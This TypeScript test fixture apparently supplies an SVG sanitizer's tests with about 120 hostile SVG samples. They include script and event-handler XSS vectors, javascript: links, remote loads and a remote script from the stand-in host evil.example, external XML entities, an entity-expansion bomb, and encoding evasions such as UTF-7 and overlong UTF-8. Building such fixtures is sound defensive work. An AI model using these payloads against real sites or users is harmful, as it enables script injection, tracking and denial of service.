/** Shows a dialog if a browser runs it. */
const RUN = "alert(1)";
const EVIL = "https://evil.example";
const svg = "http://www.w3.org/2000/svg";
const xhtml = "http://www.w3.org/1999/xhtml";
const xlink = "http://www.w3.org/1999/xlink";

/** A drawing large enough to be clicked anywhere. */
const drawing = (inner: string, keys = "") =>
  `<svg xmlns="${svg}" xmlns:xlink="${xlink}" width="400" height="400"${keys}>${inner}</svg>`;
const area = '<rect width="400" height="400" fill="#eee"/>';
const link = (keys: string, inner = "") => drawing(`<a ${keys}>${area}${inner}</a>`);
const withStyle = (css: string, inner = area) => drawing(`<style>${css}</style>${inner}`);

/** A text in big-endian UTF-16. */
const utf16be = (text: string) => Buffer.from(text, "utf16le").swap16();
const utf32 = (text: string) =>
  Buffer.concat(
    text.split("").map((one) => Buffer.from([one.charCodeAt(0) & 255, one.charCodeAt(0) >> 8, 0, 0])),
  );

/** A script in browsers that support the ISO-2022-JP escape sequence for ASCII. */
const japanese = Buffer.from(
  `<?xml version="1.0" encoding="ISO-2022-JP"?><svg xmlns="${svg}"><scr\x1b(Bipt>${RUN}</scr\x1b(Bipt></svg>`,
);

const script = `<script>${RUN}</script>`;
const cyclic = (names: readonly string[]) =>
  names
    .map((name, index) => `<!ENTITY ${name} "&${names[index + 1] ?? "lol"};&${names[index + 1] ?? "lol"};">`)
    .join("");

/** SVG files that run scripts, fetch or navigate in at least one current or former browser. */
export const hostileDrawings: Readonly<Record<string, string | Uint8Array>> = {
  // Scripts
  "a script": drawing(script),
  "a script with an address": drawing(`<script href="${EVIL}/a.js"/>`),
  "a script with an older address": drawing(`<script xlink:href="data:text/javascript,${RUN}"/>`),
  "a script as CDATA": drawing(`<script><![CDATA[${RUN}]]></script>`),
  "a script of a type": drawing(`<script type="module">${RUN}</script>`),
  "a script in capitals": drawing(`<SCRIPT>${RUN}</SCRIPT><script>${RUN}</script>`),
  "a prefixed script": drawing(`<s:script xmlns:s="${svg}">${RUN}</s:script>`),
  "a script whose prefix has a hyphen": drawing(`<a-b:script xmlns:a-b="${svg}">${RUN}</a-b:script>`),
  "a script whose prefix has a dot": drawing(`<a.b:script xmlns:a.b="${svg}">${RUN}</a.b:script>`),
  "a script whose prefix is not ASCII": drawing(`<é:script xmlns:é="${svg}">${RUN}</é:script>`),
  "a script whose prefix is Chinese": drawing(`<图:script xmlns:图="${svg}">${RUN}</图:script>`),
  "a prefixed drawing": `<x:svg xmlns:x="${svg}" onload="${RUN}"><x:script>${RUN}</x:script></x:svg>`,
  "an XHTML script": drawing(`<script xmlns="${xhtml}">${RUN}</script>`),
  "a prefixed XHTML script": drawing(`<h:script xmlns:h="${xhtml}">${RUN}</h:script>`),
  "a namespace with character references": drawing(
    `<s:script xmlns:s="http://www.w3.org/2000/sv&#103;">${RUN}</s:script>`,
  ),
  "a prefix that is bound again": drawing(
    `<g xmlns:x="urn:x"><g xmlns:x="${svg}"><x:script>${RUN}</x:script></g></g>`,
  ),
  "a script in metadata": drawing(`<metadata><s:script xmlns:s="${svg}">${RUN}</s:script></metadata>`),
  "a script in a title": drawing(`<title>${script}</title><desc>${script}</desc>`),
  "a script in a style": drawing(`<style>${script}</style>`),
  "a script in defs and a symbol": drawing(`<defs><symbol id="a">${script}</symbol></defs><use href="#a"/>`),
  "a script after a comment that looks closed": drawing(`<!-- - -> -->${script}`),
  "a script that ends a style early": drawing(`<style><![CDATA[</style>${script}<style>]]></style>`),
  "a script that a style holds as text": withStyle(`&lt;/style>&lt;script>${RUN}&lt;/script>`),
  // Event handlers
  "a handler at load": drawing(area, ` onload="${RUN}"`),
  "a handler of a nested drawing": drawing(`<svg onload="${RUN}"/>`),
  "handlers of the pointer": drawing(
    `<rect width="400" height="400" onclick="${RUN}" onmouseover="${RUN}" onpointerdown="${RUN}" onfocusin="${RUN}" tabindex="0"/>`,
  ),
  "handlers of animations": drawing(
    `<rect width="9" height="9"><animate attributeName="x" from="0" to="9" dur="0.01s" onbegin="${RUN}" onend="${RUN}" onrepeat="${RUN}" repeatCount="2"/></rect>`,
  ),
  "a handler of a broken picture": drawing(`<image href="${EVIL}/a.png" onerror="${RUN}"/>`),
  "a handler of a style animation": withStyle(
    "@keyframes a { to { opacity: 0 } } rect { animation: a 0.01s }",
    `<rect width="9" height="9" onanimationstart="${RUN}" onanimationend="${RUN}"/>`,
  ),
  "a handler with odd space": drawing(area, `\n\tonload\n =\n'${RUN}'`),
  "a handler with character references": drawing(area, ' onload="&#97;lert(1)"'),
  "an XML event listener": drawing(
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h" type="text/javascript">${RUN}</handler>`,
  ),
  // Links
  "a link to a script": link(`href="javascript:${RUN}"`),
  "an older link to a script": link(`xlink:href="javascript:${RUN}"`),
  "a link to a script with spaces": link(`href=" &#10;java&#9;script&#10;:${RUN}"`),
  "a link to a script in capitals": link(`href="JaVaScRiPt:${RUN}"`),
  "a link to a script with references": link(`href="&#106;&#x61;vascript:${RUN}"`),
  "a link to data": link(`href="data:text/html,${"&lt;script>" + RUN + "&lt;/script>"}"`),
  "a link to a script of a document": link(`href="vbscript:${RUN}" target="_blank"`),
  "a link that a set changes": link('href="#"', `<set attributeName="href" to="javascript:${RUN}"/>`),
  "an older link that a set changes": link(
    'xlink:href="#"',
    `<set attributeName="xlink:href" to="javascript:${RUN}"/>`,
  ),
  "a link that an animation changes": link(
    'href="#"',
    `<animate attributeName="href" values="javascript:${RUN}" begin="0s" fill="freeze"/>`,
  ),
  "a link that an animation elsewhere changes": drawing(
    `<a id="a" href="#">${area}</a><animate href="#a" attributeName="href" to="javascript:${RUN}" dur="1ms" fill="freeze"/>`,
  ),
  "a link whose name is animated with spaces": link(
    'href="#"',
    `<set attributeName=" href " to="javascript:${RUN}"/>`,
  ),
  "a link of another prefix that is animated": drawing(
    `<g xmlns:y="${xlink}"><a y:href="#">${area}<set attributeName="y:href" to="javascript:${RUN}"/></a></g>`,
  ),
  "a link below an xml:base": drawing(`<g xml:base="javascript:${RUN}//"><a href="#">${area}</a></g>`),
  "a use below an xml:base": drawing(`<g xml:base="${EVIL}/"><use href="#a"/><use href="b.svg#a"/></g>`),
  "a link with a ping": drawing(`<a href="#" ping="${EVIL}/ping">${area}</a>`),
  "an XLink that shows itself": drawing(
    `<g xlink:type="simple" xlink:show="replace" xlink:actuate="onLoad" xlink:href="${EVIL}/"/>`,
  ),
  // Embedded pages
  "a page inside": drawing(
    `<foreignObject width="400" height="400"><body xmlns="${xhtml}"><img src="x" onerror="${RUN}"/><script>${RUN}</script></body></foreignObject>`,
  ),
  "a frame with its own page": drawing(
    `<h:iframe xmlns:h="${xhtml}" srcdoc="&lt;script>${RUN}&lt;/script>"/>`,
  ),
  "a frame of elsewhere": drawing(`<iframe xmlns="${xhtml}" src="${EVIL}/"/>`),
  "an object": drawing(
    `<object xmlns="${xhtml}" data="${EVIL}/a.html"/><embed xmlns="${xhtml}" src="${EVIL}/b.html"/>`,
  ),
  "an XHTML picture": drawing(`<h:img xmlns:h="${xhtml}" src="${EVIL}/a.png" onerror="${RUN}"/>`),
  "an XHTML link to a stylesheet": drawing(`<link xmlns="${xhtml}" rel="stylesheet" href="${EVIL}/a.css"/>`),
  "an XHTML base": drawing(`<base xmlns="${xhtml}" href="${EVIL}/"/><use href="#a"/>`),
  "a meta refresh": drawing(`<meta xmlns="${xhtml}" http-equiv="refresh" content="0;url=${EVIL}/"/>`),
  "a prefixed meta refresh": drawing(
    `<h:meta xmlns:h="${xhtml}" http-equiv="refresh" content="0;url=${EVIL}/"/>`,
  ),
  "a form": drawing(
    `<foreignObject width="400" height="400"><form xmlns="${xhtml}" action="${EVIL}/"><button style="width:400px;height:400px" autofocus="">Go</button></form></foreignObject>`,
  ),
  "a prefixed form": drawing(
    `<h:form xmlns:h="${xhtml}" action="javascript:${RUN}"><h:button style="position:fixed;inset:0">Go</h:button></h:form>`,
  ),
  "a video and a sound": drawing(
    `<video xmlns="${xhtml}" src="${EVIL}/a.mp4" autoplay="" onerror="${RUN}"/><audio href="${EVIL}/a.mp3" xmlns="${svg}"/>`,
  ),
  "a page as the root": `<html xmlns="${xhtml}"><body>${script}</body></html>`,
  "a page as the root, prefixed": `<h:html xmlns:h="${xhtml}"><h:script>${RUN}</h:script></h:html>`,
  "a root of no namespace with an XHTML script": `<svg><h:script xmlns:h="${xhtml}">${RUN}</h:script></svg>`,
  "a formula with a link": drawing(
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${RUN}"><mtext>x</mtext></math>`,
  ),
  // Requests
  "a picture of elsewhere": drawing(`<image href="${EVIL}/a.png" width="9" height="9"/>`),
  "a picture beside the drawing": drawing('<image href="../a.svg" width="9" height="9"/>'),
  "a filter's picture of elsewhere": drawing(
    `<filter id="f"><feImage href="${EVIL}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  "a use of elsewhere": drawing(`<use href="${EVIL}/a.svg#a"/><use xlink:href="//evil.example/b.svg#a"/>`),
  "a use of data": drawing(
    `<use href="data:image/svg+xml,&lt;svg id='a' xmlns='${svg}' onload='${RUN}'>&lt;/svg>#a"/>`,
  ),
  "a picture that is a drawing": drawing(
    `<image href="data:image/svg+xml,&lt;svg xmlns='${svg}' onload='${RUN}'>&lt;/svg>" width="9" height="9"/>`,
  ),
  "a motion along a path of elsewhere": drawing(
    `<rect width="9" height="9"><animateMotion dur="1s"><mpath href="${EVIL}/a.svg#p"/></animateMotion></rect>`,
  ),
  "a text along a path of elsewhere": drawing(
    `<text><textPath href="${EVIL}/a.svg#p">Text</textPath></text>`,
  ),
  "a gradient of elsewhere": drawing(
    `<linearGradient id="a" xlink:href="${EVIL}/a.svg#p"/><rect width="9" height="9" fill="url(#a)"/>`,
  ),
  "a colour of elsewhere": drawing(
    `<rect width="9" height="9" fill="url(${EVIL}/a.svg#a)" filter="url('${EVIL}/b.svg#b')"/>`,
  ),
  "a mask of elsewhere": drawing(
    `<rect width="9" height="9" mask="url(${EVIL}/a.svg#a)" clip-path="url(&quot;${EVIL}/b.svg#b&quot;)" marker-end="url(${EVIL}/c.svg#c)"/>`,
  ),
  "a value that is animated to elsewhere": drawing(
    `<rect width="9" height="9"><set attributeName="mask" to="url(${EVIL}/a.svg#a)"/><animate attributeName="fill" values="red;url(${EVIL}/b.svg#a)" dur="1s"/></rect>`,
  ),
  "a cursor of elsewhere": drawing(
    `<cursor id="c" href="${EVIL}/a.png"/><rect width="400" height="400" cursor="url(${EVIL}/b.png), auto" style="cursor:url(${EVIL}/c.png), auto"/>`,
  ),
  "an import": withStyle(`@import "${EVIL}/a.css"; @import url(${EVIL}/b.css);`),
  "an import with an escape": withStyle(`@\\69mport "${EVIL}/a.css"; @IMPORT url("${EVIL}/b.css");`),
  "an import behind a comment": withStyle(`/* */@import/**/"${EVIL}/a.css";`),
  "a background of elsewhere": withStyle(`svg { background: url(${EVIL}/a.png) }`),
  "a background with escapes": withStyle(
    `svg { background: u\\72 l(${EVIL}/a.png) } rect { mask: \\55 \\52 \\4c ("${EVIL}/b.png") }`,
  ),
  "a background as an image set": withStyle(
    `svg { background: image-set("${EVIL}/a.png" 1x); background: -webkit-image-set(url(${EVIL}/b.png) 1x) }`,
  ),
  "a background by a custom property": withStyle(
    `:root { --a: url(${EVIL}/a.png); --b: "${EVIL}/b.png" } svg { background: var(--a), image-set(var(--b) 1x) }`,
  ),
  "a background by src()": withStyle(`svg { background: src("${EVIL}/a.png"), image("${EVIL}/b.png") }`),
  "a font of elsewhere": withStyle(
    `@font-face { font-family: A; src: url(${EVIL}/a.woff2) format("woff2") } text { font-family: A }`,
    "<text y='20'>Text</text>",
  ),
  "a background behind a nested namespace": withStyle(
    `svg { g { @namespace } background: url(${EVIL}/a.png) }`,
  ),
  "a background behind a namespace in a block": withStyle(
    `svg { @media all { @namespace } background: url("${EVIL}/a.png") }`,
  ),
  "a background behind a namespace in a rule": withStyle(
    `@media all { @namespace } svg { background: url(${EVIL}/a.png) }`,
  ),
  "a background behind a namespace without an end": withStyle(
    `g { @namespace } svg { background: image-set("${EVIL}/a.png" 1x), url( '${EVIL}/b.png' ) }`,
  ),
  "a background of two halves in a namespace": withStyle(
    `svg { g { @namespace url)("${EVIL}/a.png") } background: url)("${EVIL}/b.png") }`,
  ),
  "an attribute with a namespace": drawing(
    `<rect width="9" height="9" style="@namespace;} x{@namespace} fill: url(${EVIL}/a.svg#b)"/>`,
  ),
  "a namespace that is fetched": withStyle(
    `@namespace url(${svg}); rect { mask: url(${EVIL}/a.svg#m) } svg { background: url(${EVIL}/b.png) }`,
  ),
  "a style in parts": drawing(`<style>svg { background: url(<![CDATA[${EVIL}/a.png]]>) }</style>`),
  "a style with an element in it": drawing(
    `<style><g/>@import "${EVIL}/a.css";<style/>@import "${EVIL}/b.css";</style>`,
  ),
  "an XHTML style": drawing(`<h:style xmlns:h="${xhtml}">svg { background: url(${EVIL}/a.png) }</h:style>`),
  "a style with an address that has no end": withStyle(`svg { background: url(${EVIL}/a.png`),
  "a style attribute": drawing(
    area,
    ` style="background: url(${EVIL}/a.png); list-style: url('${EVIL}/b.png')"`,
  ),
  "a binding": drawing(
    area,
    ` style="-moz-binding: url(${EVIL}/a.xml#a); behavior: url(${EVIL}/a.htc); width: expression(${RUN})"`,
  ),
  "a colour profile": drawing(`<color-profile name="a" href="${EVIL}/a.icc"/>`),
  "an SVG font of elsewhere": drawing(
    `<font-face font-family="A"><font-face-src><font-face-uri href="${EVIL}/a.svg#f"/></font-face-src></font-face><text font-family="A">a</text>`,
  ),
  // Content before the root element
  "a stylesheet as an instruction": `<?xml-stylesheet href="${EVIL}/a.css"?>${drawing(area)}`,
  "a transformation as an instruction": `<?xml-stylesheet type="text/xsl" href="data:text/xsl,&lt;x/>"?>${drawing(area)}`,
  "a transformation of itself": `<?xml-stylesheet type="text/xsl" href="#t"?><svg xmlns="${svg}"><xsl:stylesheet id="t" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="${xhtml}">${RUN}</script></xsl:template></xsl:stylesheet></svg>`,
  "an inclusion": drawing(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${EVIL}/a.xml"/>`),
  "an entity that is a script": `<!DOCTYPE svg [<!ENTITY x "<script xmlns='${svg}'>${RUN}</script>">]>${drawing("&x;")}`,
  "an entity of elsewhere": `<!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/a.xml">]>${drawing("<text>&x;</text>")}`,
  "an attribute from the DOCTYPE": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${drawing(area)}`,
  "a namespace from the DOCTYPE": `<!DOCTYPE svg [<!ATTLIST x xmlns CDATA "${svg}"><!ENTITY s "${RUN}">]><svg xmlns="${svg}"><script>&s;</script></svg>`,
  "entities that grow": `<!DOCTYPE svg [<!ENTITY lol "lol">${cyclic("abcdefghijklmnopqrst".split(""))}]>${drawing("<text>&a;</text>")}`,
  "a plain DOCTYPE": `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n${drawing(script)}`,
  // Encodings
  "UTF-16 with a mark": Buffer.from(`\ufeff${drawing(script)}`, "utf16le"),
  "UTF-16 without a mark": Buffer.from(drawing(script), "utf16le"),
  "the other UTF-16 with a mark": utf16be(`\ufeff${drawing(script)}`),
  "the other UTF-16 without a mark": utf16be(`<?xml version="1.0" encoding="UTF-16"?>${drawing(script)}`),
  "UTF-32": utf32(`\ufeff${drawing(script)}`),
  "ISO-2022-JP": japanese,
  "UTF-7": `<?xml version="1.0" encoding="UTF-7"?>${drawing(`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`)}`,
  "Latin-1": Buffer.from(
    `<?xml version="1.0" encoding="ISO-8859-1"?>${drawing(`<é:script xmlns:é="${svg}">${RUN}</é:script>`)}`,
    "latin1",
  ),
  "a mark of UTF-8 in front of a script": `\ufeff${drawing(script)}`,
  "two marks of UTF-8": `\ufeff\ufeff${drawing(script)}`,
  "an overlong character": Buffer.concat([
    Buffer.from(`<svg xmlns="${svg}">`),
    Buffer.from([0xc0, 0xbc]),
    Buffer.from(`script>${RUN}</script></svg>`),
  ]),
  "a NUL": drawing(`<scr\0ipt>${RUN}</scr\0ipt>${script}`),
  // Syntax errors
  "a script in front of a mistake": `<svg xmlns="${svg}">${script}<g></svg>`,
  "a script behind the end": `${drawing(area)}${drawing(script)}`,
  "a script that is never closed": `<svg xmlns="${svg}"><script>${RUN}`,
  "an attribute twice": `<svg xmlns="${svg}"><a href="#" href="javascript:${RUN}">${area}</a></svg>`,
  "HTML instead of a drawing": `<!doctype html><script>${RUN}</script>`,
  "a drawing inside a page": `<html><body>${drawing(script)}</body></html>`,
  "a text in front": `x${drawing(script)}`,
  "XML 1.1": `<?xml version="1.1"?>${drawing(script)}`,
};
